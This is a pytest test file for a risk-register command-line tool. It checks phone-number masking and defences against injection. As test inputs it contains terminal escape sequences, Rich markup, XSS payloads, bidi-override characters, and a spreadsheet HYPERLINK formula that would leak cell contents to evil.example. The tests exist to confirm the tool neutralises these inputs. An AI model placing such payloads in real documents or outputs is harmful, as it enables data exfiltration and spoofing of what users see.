"""Nothing leaks at the edges (issue 11, items 5, 7 and 8): every path to the user's eyes masks, user text
reaches the terminal, Rich, spreadsheets and Markdown as text, and imported history is validated."""

from pathlib import Path

import pytest
from openpyxl import load_workbook

PHONE = "13912345678"
MASKED = "139****5678"

# A catalogue with the number planted in every name it holds.
CATALOGUE = f"""\
version: 1
title: {{zh: 清单{PHONE}, en: List {PHONE}}}
campaign: {{zh: 活动{PHONE}, en: Games {PHONE}, start: 2026-09-01, end: 2026-09-15}}
levels:
  - {{code: major, zh: 重大{PHONE}, en: major {PHONE}, colour: red}}
  - {{code: significant, zh: 较大{PHONE}, en: significant {PHONE}, colour: orange}}
  - {{code: general, zh: 一般{PHONE}, en: general {PHONE}, colour: yellow}}
  - {{code: low, zh: 低{PHONE}, en: low {PHONE}, colour: blue}}
departments:
  - {{code: COMP, zh: 综治{PHONE}, en: Centre {PHONE}}}
  - {{code: WATER, zh: 水利{PHONE}, en: Water {PHONE}}}
units: [东村{PHONE}, 西村{PHONE}]
categories:
  - code: S
    zh: 社会{PHONE}
    en: Social {PHONE}
    risks:
      - {{code: S03, zh: 欠薪{PHONE}, en: Wages {PHONE}, departments: [COMP, WATER]}}
"""


def _planted(tag: str) -> str:
    return f"{tag}{PHONE}"


@pytest.fixture
def planted(cli, register, tmp_path, monkeypatch) -> Path:
    """A register whose catalogue names, entries, history and actor all carry the number."""
    catalogue = tmp_path / "catalogue.yaml"
    catalogue.write_text(CATALOGUE, encoding="utf-8")
    monkeypatch.setenv("RISKREG_ACTOR", _planted("王"))
    cli("catalogue", "load", catalogue)
    a = cli.add("S03", _planted("欠薪"), f"东村{PHONE}", "--detail", _planted("详情"), "--level", "major",
                as_of="2026-06-01")
    cli("assign", a, "--leader", _planted("王明"), "--task-force", _planted("专班"), "--plan", _planted("方案"),
        "--contingency", _planted("预案"), "--due", "2026-06-20", as_of="2026-06-01")
    cli("mitigate", a, "--measures", _planted("措施"), as_of="2026-06-02")
    cli("escalate", a, "--to", _planted("区里"), "--reason", _planted("原因"), as_of="2026-06-03")
    cli("note", a, _planted("回访"), as_of="2026-06-04")
    b = cli.add("S03", _planted("纠纷"), f"西村{PHONE}", "--dept", "WATER", "--due", "2026-07-03", as_of="2026-06-01")
    cli("close", b, "--verified-by", _planted("李华"), "--resolution", _planted("化解"), as_of="2026-06-02")
    cli("reopen", b, "--reason", _planted("复发"), as_of="2026-06-03")
    cli("close", b, "--verified-by", _planted("李华"), "--resolution", _planted("再化解"), as_of="2026-06-04")
    return tmp_path


def _assert_no_number(where: str, text: str) -> None:
    assert PHONE not in text, f"{where} shows the number:\n{text}"


def _xlsx_text(path: Path) -> str:
    workbook = load_workbook(path)
    return "\n".join(str(value) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)
                     for value in row if value is not None)


OUTPUTS = [
    ["list"], ["list", "--format", "json"], ["list", "--format", "csv"], ["show", "1"], ["show", "2"],
    ["show", "1", "--format", "json"], ["summary"], ["report"], ["report", "--format", "markdown"],
    ["report", "--format", "json"], ["report", "--format", "csv"], ["report", "--format", "html"],
    ["export", "--format", "csv"], ["catalogue", "show"], ["catalogue", "show", "--format", "json"], ["trend"],
]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_output_masks_numbers_in_free_text_units_departments_and_catalogue_names(cli, planted, lang):
    for argv in OUTPUTS:
        result = cli("--lang", lang, *argv)
        _assert_no_number(" ".join(argv), result.stdout + result.stderr)
    for fmt in ("text", "markdown", "json", "csv", "html"):
        out = planted / f"report.{fmt}"
        cli("--lang", lang, "report", "--format", fmt, "--output", out)
        _assert_no_number(f"report --format {fmt} --output", out.read_text(encoding="utf-8"))
    for fmt in ("csv", "xlsx"):
        out = planted / f"ledger.{fmt}"
        cli("--lang", lang, "export", "--format", fmt, "--output", out)
        shown = _xlsx_text(out) if fmt == "xlsx" else out.read_text(encoding="utf-8")
        _assert_no_number(f"export --format {fmt}", shown)
        assert MASKED in shown
    # --unmasked shows every planted name as stored: the test above looked where the numbers are
    unmasked = cli("--lang", lang, "export", "--format", "xlsx", "--unmasked", "--output", planted / "all.xlsx")
    assert unmasked.exit_code == 0 and _xlsx_text(planted / "all.xlsx").count(PHONE) >= 20
    assert cli("--lang", lang, "catalogue", "show", "--unmasked").stdout.count(PHONE) >= 12


def test_messages_mask_numbers(cli, planted, tmp_path):
    sheet = tmp_path / f"new{PHONE}.csv"
    sheet.write_text(f"风险编码,村(社区),标题,牵头领导,备注{PHONE}\nS03,东村{PHONE},{_planted('新欠薪')},{_planted('王')},x\n",
                     encoding="utf-8")
    unlisted = tmp_path / "smaller.yaml"
    unlisted.write_text(CATALOGUE.replace(f", 西村{PHONE}", "").replace(f"东村{PHONE}", "南村"), encoding="utf-8")
    for argv, code in ((["import", sheet, "--dry-run", "--ignore", f"备注{PHONE}"], 0), (["import", sheet], 1), (["catalogue", "load", unlisted, "--dry-run"], 0),
                       (["catalogue", "load", unlisted], 0), (["add", "S03", "--title", "x", "--unit", _planted("北村")], 1),
                       (["escalate", "1", "--to", _planted("县里"), "--reason", "r"], 0), (["undo"], 0), (["check"], 0)):
        result = cli(*argv, code=code)
        _assert_no_number(" ".join(map(str, argv)), result.stdout + result.stderr)


# --- terminal injection (item 7) ------------------------------------------------------------------------

ESCAPE = "\x1b]0;pwned\x07\x1b[2J"  # retitle the window, clear the screen


def _append_event(register, **fields) -> int:
    """A history event written straight into the register (the chain kept whole), as an older riskreg's
    import let in: what `check` must now flag and every output must show harmlessly. Returns its id."""
    from datetime import date

    from sqlmodel import select

    from riskreg.store.chain import GENESIS, event_hash
    from riskreg.store.models import History
    from riskreg.store.register import open_register

    opened = open_register(str(register))
    try:
        with opened.session(write=True) as session:
            previous = session.exec(select(History.hash).order_by(History.id.desc()).limit(1)).first() or GENESIS
            event = {"entry_id": 1, "at": "2026-07-01T08:00:00.000000Z", "on": date(2026, 7, 1), "actor": "tester",
                     "action": "note", "changes": {}, "text": None, **fields}
            row = History(**event, hash=event_hash(previous, **event))
            session.add(row)
            session.flush()
            return row.id
    finally:
        opened.engine.dispose()


@pytest.mark.parametrize("actor", [f"王{ESCAPE}", "王\n明", "x" * 201])
def test_the_actor_is_cleaned_like_every_field(cli, register, monkeypatch, snapshot, actor):
    before = snapshot()
    assert "actor (--actor or RISKREG_ACTOR)" in cli("--actor", actor, "add", "S03", "--title", "t", "--unit", "东村",
                                                     code=1).stderr
    monkeypatch.setenv("RISKREG_ACTOR", actor)
    cli("add", "S03", "--title", "t", "--unit", "东村", code=1)
    assert snapshot() == before
    monkeypatch.setenv("RISKREG_ACTOR", " 王明 ")
    cli.add()
    assert cli.json("show", "1", "--format", "json")["history"][0]["actor"] == "王明"


def _exported_line(cli, tmp_path) -> dict:
    import json

    cli.add()
    cli("note", "1", "已走访")
    out = tmp_path / "export.jsonl"
    cli("export", "--unmasked", "--output", out)
    return json.loads(out.read_text(encoding="utf-8"))


@pytest.mark.parametrize("event, refusal", [
    ({"actor": ESCAPE}, "history event 2: The actor contains control characters"),
    ({"text": "已走访\x07"}, "history event 2: The text contains control characters"),
    ({"action": "frobnicate"}, "history event 2: unknown action 'frobnicate'"),
    ({"changes": {"password": {"old": None, "new": "x"}}}, "history event 2: changes unknown field(s) 'password'"),
    ({"changes": {"leader": {"old": f"王{ESCAPE}", "new": None}}}, "history event 2: The leader value contains"),
    ({"at": f"2026{ESCAPE}"}, "history event 2: The time contains control characters"),
    ({"at": "not-a-time"}, "history event 2: the time 'not-a-time' is not a UTC time as riskreg records it"),
    ({"at": "2026-13-45T08:00:00Z"}, "history event 2: the time '2026-13-45T08:00:00Z' is not a UTC time"),
])
def test_import_refuses_history_events_riskreg_would_never_write(cli, register, tmp_path, monkeypatch, event, refusal):
    import json

    line = _exported_line(cli, tmp_path)
    line["history"][1].update(event)
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps(line, ensure_ascii=False) + "\n", encoding="utf-8")
    monkeypatch.setenv("RISKREG_DB", str(tmp_path / "fresh.db"))
    cli("init")
    error = cli("import", bad, code=1).stderr
    assert refusal in error and "\x1b" not in error


@pytest.mark.parametrize("event, finding", [
    ({"actor": ESCAPE}, "The actor contains control characters or line breaks"),
    ({"action": f"frob{ESCAPE}"}, "unknown action 'frob\\x1b]0;pwned\\x07\\x1b[2J'"),
    ({"changes": {"password": {"old": None, "new": None}}}, "changes unknown field(s) 'password'"),
])
def test_check_flags_what_import_would_refuse_and_nothing_reaches_the_terminal_raw(cli, register, event, finding):
    cli.add()
    record = _append_event(register, **event)
    result = cli("check", code=1)
    assert f"history record {record}: {finding}; `import` would refuse it." in result.stdout
    for argv in (["show", "1"], ["show", "1", "--format", "json"], ["export"], ["report", "--format", "markdown"]):
        assert "\x1b" not in cli(*argv).stdout, argv


@pytest.mark.parametrize("name", ["[bold red]loud.csv", "a[blink]b.csv", "[link=https:evil.example]x.csv"])
def test_rich_markup_in_a_file_name_is_shown_as_typed(cli, register, tmp_path, name):
    sheet = tmp_path / name
    sheet.write_text("风险编码,村(社区),标题\nS03,东村,拖欠工资\n", encoding="utf-8")
    out = cli("import", sheet, "--dry-run").stdout
    assert f"{name}, from row 2" in out


def test_a_terminal_sees_stored_escape_sequences_as_text(cli, register):
    import os
    import pty
    import subprocess
    import sys

    cli.add()
    _append_event(register, actor=f"王{ESCAPE}", text=f"回访{ESCAPE}")
    for argv in (["show", "1"], ["list", "--format", "csv"], ["export"]):
        leader, follower = pty.openpty()
        done = subprocess.run([sys.executable, "-m", "riskreg", "--as-of", "2026-07-01", *argv], stdout=follower,
                              stderr=subprocess.PIPE, env=os.environ, timeout=60)
        os.close(follower)
        shown = b""
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            shown += chunk
        os.close(leader)
        assert done.returncode == 0, done.stderr
        assert b"\x1b]0;pwned" not in shown, argv  # only as the text \x1b]0;pwned (or JSON's \u001b…)
        if argv[0] == "show":
            assert b"\\x1b]0;pwned\\x07" in shown
        if argv[1:] == ["--format", "csv"]:  # CSV's own line ending is no control character to show
            assert b"\\x0d" not in shown and shown.count(b"\n") >= 2


# --- formula and HTML injection (item 8) ---------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'


def test_every_cell_riskreg_writes_is_text_unless_riskreg_made_it(cli, register, tmp_path):
    catalogue = tmp_path / "catalogue.yaml"
    catalogue.write_text(CATALOGUE.replace(f"综治{PHONE}", "'" + FORMULA.replace("'", "''") + "'")
                         .replace(f"Centre {PHONE}", "'=1+1'"), encoding="utf-8")
    cli("catalogue", "load", catalogue)
    cli.add("S03", "=2+3", f"东村{PHONE}", "--detail", "=SUM(A1:A9)")
    for lang, department in (("zh", FORMULA), ("en", "=1+1")):
        out = tmp_path / f"ledger-{lang}.xlsx"
        cli("--lang", lang, "export", "--format", "xlsx", "--output", out)
        ledger, by_department = load_workbook(out).worksheets
        cells = [cell for row in ledger.iter_rows() for cell in row] + [c for row in by_department.iter_rows() for c in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert by_department["A2"].value == department and by_department["A2"].data_type == "s"
        assert {"=2+3", "=SUM(A1:A9)", department} <= {cell.value for cell in cells}


def test_markdown_shows_html_and_markdown_in_user_text_as_written(cli, register, tmp_path):
    catalogue = tmp_path / "catalogue.yaml"
    catalogue.write_text(CATALOGUE.replace(f"清单{PHONE}", "清单<script>alert(1)</script>"), encoding="utf-8")
    cli("catalogue", "load", catalogue)
    cli.add("S03", "<img src=x onerror=alert(1)> [click](javascript:alert(1)) **bold** | cell", f"东村{PHONE}",
            "--due", "2026-06-01", as_of="2026-05-01")
    report = cli("report", "--format", "markdown").stdout
    assert "<script" not in report and "<img" not in report and "\\[click\\](javascript:alert(1))" in report
    assert "**bold**" not in report and "&lt;img src=x onerror=alert(1)&gt;" in report
    assert "\\*\\*bold\\*\\* \\| cell" in report


@pytest.mark.parametrize("argv, refusal", [
    (["add", "S03", "--unit", "东村", "--title", "燃气\u202e管道"], "The title contains control characters"),
    (["add", "S03", "--title", "燃气管道", "--unit", "\u2067东村\u2069"], "The unit contains control characters"),
    (["add", "S03", "--title", "燃气管道", "--unit", "\u200b"], "The unit must not be empty"),
    (["--actor", "王\u202e明", "add", "S03", "--title", "燃气管道", "--unit", "东村"], "The actor (--actor or RISKREG_ACTOR) contains"),
])
def test_text_that_reads_other_than_it_is_is_refused(cli, register, snapshot, argv, refusal):
    # A right-to-left override shows 王明 as 明王; a village of one zero-width space is an invisible row.
    before = snapshot()
    assert refusal in cli(*argv, code=1).stderr
    assert snapshot() == before
